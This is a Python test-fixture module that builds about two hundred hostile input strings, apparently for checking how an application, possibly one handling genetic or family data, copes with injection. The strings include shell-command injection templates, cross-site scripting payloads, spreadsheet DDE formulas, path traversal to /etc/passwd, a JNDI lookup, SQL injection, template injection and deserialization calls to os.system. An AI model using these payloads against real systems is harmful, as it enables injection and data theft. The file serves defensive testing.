"""Two hundred texts that try to become something else: a command, a page, a formula, a path, a format, an escape."""

from __future__ import annotations

SHELL = (
    "; {c}", "&& {c}", "| {c}", "$({c})", "`{c}`", "\n{c}\n", "'; {c}; '", '"; {c}; "', "|| {c} #", "& {c} &",
    "${{IFS}}{c}", "a$({c})b", "<({c})", ">({c})", "{{{c},}}", "%0a{c}", "--{c}", "-o{c}", "\\;{c}", "a;{c};b",
)  # fmt: skip
COMMANDS = ("touch PWNED", "id>PWNED", "echo x > PWNED")
MARKUP = (
    "<script>{s}</script>", "<img src=x onerror={s}>", "</script><script>{s}</script>", "<svg onload={s}>",
    '"><script>{s}</script>', "' onmouseover='{s}", '" autofocus onfocus="{s}', "<iframe src=javascript:{s}>",
    "javascript:{s}", "<a href=javascript:{s}>x</a>", "<body onload={s}>", "<style>@import 'http://x'</style>",
    "--><script>{s}</script>", "]]><script>{s}</script>", "<math><mi xlink:href='javascript:{s}'>",
    "</style><script>{s}</script>",
    "</textarea><script>{s}</script>", "<template><script>{s}</script></template>",
    "<base href=//x>", "<meta http-equiv=refresh content=0;url=//x>",
)  # fmt: skip
SCRIPTS = ("alert(1)", "fetch('//x')", "document.title='PWNED'")
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://x\",\"y\")", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "=IMPORTXML(\"http://x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@import", " =1+1", "=DDE(\"cmd\")",
    "＝1+1", "=WEBSERVICE(\"http://x\")", ";=1+1", ",=1+1", "\u00a0=1+1", "=A1:A9",
)  # fmt: skip
PATHS = (
    "../../PWNED", "/etc/passwd", "..\\..\\PWNED", "....//....//PWNED", "%2e%2e%2fPWNED", "~/PWNED",
    "file:///etc/passwd",
    "a/../../PWNED", "//host/share", "C:\\PWNED", "\\\\host\\share", "/dev/full", "/proc/self/environ", "-", "--help",
    ".", "..",
    "con", "a" * 300, "PWNED\x00.txt",
)  # fmt: skip
OTHER = (
    "{{ 7*7 }}", "{% for x in ().__class__.__bases__ %}", "${jndi:ldap://x}", "%s%s%s%n", "{0.__class__}", "{sample}",
    "'; DROP TABLE families;--",
    "1 OR 1=1", "!!python/object/apply:os.system [touch PWNED]", "__import__('os').system('touch PWNED')",
    "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\u202egnp.exe", "\u2028alert(1)", "\u0000", "\ud7ff\uffff",
    "\r\nSet-Cookie: x", "a\tb\nc",
    "&lt;script&gt;", "&#x3c;script&#x3e;",
)  # fmt: skip


def hostile_texts() -> list[str]:
    """All of them, in a fixed order, each once."""
    texts = [form.format(c=command) for form in SHELL for command in COMMANDS]
    texts += [form.format(s=script) for form in MARKUP for script in SCRIPTS]
    texts += [*FORMULAS, *PATHS, *OTHER]
    texts += [f"BRCA1{text}" for text in (*FORMULAS, *PATHS)]
    return list(dict.fromkeys(texts))
